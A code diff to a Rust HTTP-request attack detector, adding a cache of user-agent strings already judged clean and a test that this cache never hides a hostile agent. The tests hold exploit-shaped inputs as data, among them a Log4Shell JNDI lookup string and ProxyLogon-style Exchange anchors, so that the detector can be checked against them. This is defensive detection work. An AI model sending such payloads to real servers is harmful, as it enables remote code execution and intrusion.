@@ -4,6 +4,7 @@ use std::sync::LazyLock;
 
 use aho_corasick::{AhoCorasick, packed};
 use regex::Regex;
+use rustc_hash::FxHashSet;
 
 /// The table.
 const TABLE: &str = include_str!("../../../../content/servers/attacks.toml");
@@ -62,9 +63,22 @@ pub(super) struct Request<'a> {
 /// A request longer than this is looked at up to here.
 const MAX_PART: usize = 4 * 1024;
 
-/// The attack that `request` has the form of. `scratch` is room that is kept from request to request.
-pub(super) fn attack(request: &Request<'_>, scratch: &mut String) -> Option<&'static Attack> {
-    BUILTIN.as_ref()?.find(request, scratch)
+/// What is kept from request to request: room, and what need not be looked at again.
+#[derive(Default)]
+pub struct Room {
+    /// A request in lower case.
+    lower: String,
+    /// Agents in which no word of an attack stands. Logs hold few, again and again, and they are the longest text of
+    /// most requests.
+    clean_agents: FxHashSet<Box<str>>,
+}
+
+/// Agents remembered before the memory starts anew.
+const MOST_AGENTS: usize = 1_024;
+
+/// The attack that `request` has the form of.
+pub(super) fn attack(request: &Request<'_>, room: &mut Room) -> Option<&'static Attack> {
+    BUILTIN.as_ref()?.find(request, room)
 }
 
 /// The attack with this id.
@@ -101,30 +115,16 @@ impl Attacks {
         })
     }
 
-    /// `scratch` is room for the request in lower case.
-    fn find(&self, request: &Request<'_>, scratch: &mut String) -> Option<&Attack> {
-        let parts = [
-            request.path,
-            request.query,
-            request.anchor,
-            request.cookie,
-            request.agent,
-        ];
-        scratch.clear();
-        for part in parts {
-            scratch.push_str(crate::clip(part, MAX_PART));
-            scratch.push('\n');
-        }
-        scratch.make_ascii_lowercase();
-        if self
-            .scout
-            .as_ref()
-            .is_some_and(|scout| scout.find(&*scratch).is_none())
-        {
+    fn find(&self, request: &Request<'_>, room: &mut Room) -> Option<&Attack> {
+        let is_clean_agent = self.is_clean_agent(request.agent, room);
+        room.lower.clear();
+        room.push(&[request.path, request.query, request.anchor, request.cookie]);
+        if is_clean_agent && self.has_no_word(&room.lower) {
             return None;
         }
+        room.push(&[request.agent]);
         let mut candidates = 0_u64;
-        for found in self.words.find_overlapping_iter(&*scratch) {
+        for found in self.words.find_overlapping_iter(&*room.lower) {
             let owner = self.owner.get(found.pattern().as_usize());
             candidates |= owner.map_or(0, |owner| 1 << owner);
         }
@@ -142,6 +142,44 @@ impl Attacks {
                     .is_some_and(|except| except.is_match(&line));
             is_it.then_some(attack)
         })
+    }
+
+    fn is_clean_agent(&self, agent: &str, room: &mut Room) -> bool {
+        if room.clean_agents.contains(agent) {
+            return true;
+        }
+        room.lower.clear();
+        room.push(&[agent]);
+        let is_clean = self.has_no_word(&room.lower);
+        if is_clean && agent.len() <= MAX_PART {
+            if room.clean_agents.len() >= MOST_AGENTS {
+                room.clean_agents.clear();
+            }
+            room.clean_agents.insert(agent.into());
+        }
+        is_clean
+    }
+
+    /// Whether no word of an attack stands in `lower`.
+    fn has_no_word(&self, lower: &str) -> bool {
+        match &self.scout {
+            Some(scout) => scout.find(lower).is_none(),
+            None => !self.words.is_match(lower),
+        }
+    }
+}
+
+impl Room {
+    /// Appends `parts` in lower case, each on a line.
+    fn push(&mut self, parts: &[&str]) {
+        let start = self.lower.len();
+        for part in parts {
+            self.lower.push_str(crate::clip(part, MAX_PART));
+            self.lower.push('\n');
+        }
+        if let Some(new) = self.lower.get_mut(start..) {
+            new.make_ascii_lowercase();
+        }
     }
 }
 
@@ -186,7 +224,7 @@ mod tests {
             query,
             ..Request::default()
         };
-        attack(&request, &mut String::new()).map(|attack| attack.id.as_str())
+        attack(&request, &mut Room::default()).map(|attack| attack.id.as_str())
     }
 
     #[test]
@@ -246,7 +284,31 @@ mod tests {
             anchor: "ServerInfo~a]@exch01.example:444/mapi/emsmdb/?#",
             ..Request::default()
         };
-        assert_eq!(attack(&anchored, &mut String::new()).unwrap().id, "proxylogon");
+        assert_eq!(attack(&anchored, &mut Room::default()).unwrap().id, "proxylogon");
+    }
+
+    #[test]
+    fn an_agent_is_clean_or_hostile_whatever_came_before() {
+        let mut room = Room::default();
+        let mut is_attack = |path: &str, agent: &str| {
+            let request = Request {
+                path,
+                agent,
+                ..Request::default()
+            };
+            attack(&request, &mut room).is_some()
+        };
+        let shell = "${jndi:ldap://x.example/a}";
+        for _ in 0..2 {
+            assert!(!is_attack("/", "Mozilla/5.0"));
+            assert!(is_attack("/", shell));
+            assert!(is_attack("/x${jndi:ldap://x.example/a}", "Mozilla/5.0"));
+        }
+        for number in 0..2 * MOST_AGENTS {
+            assert!(!is_attack("/", &format!("Agent/{number}")));
+        }
+        assert!(is_attack("/", shell));
+        assert!(room.clean_agents.len() <= MOST_AGENTS);
     }
 
     #[test]
@@ -280,6 +342,6 @@ mod tests {
             anchor: "ServerInfo~localhost/owa",
             ..Request::default()
         };
-        assert!(attack(&own, &mut String::new()).is_none());
+        assert!(attack(&own, &mut Room::default()).is_none());
     }
 }
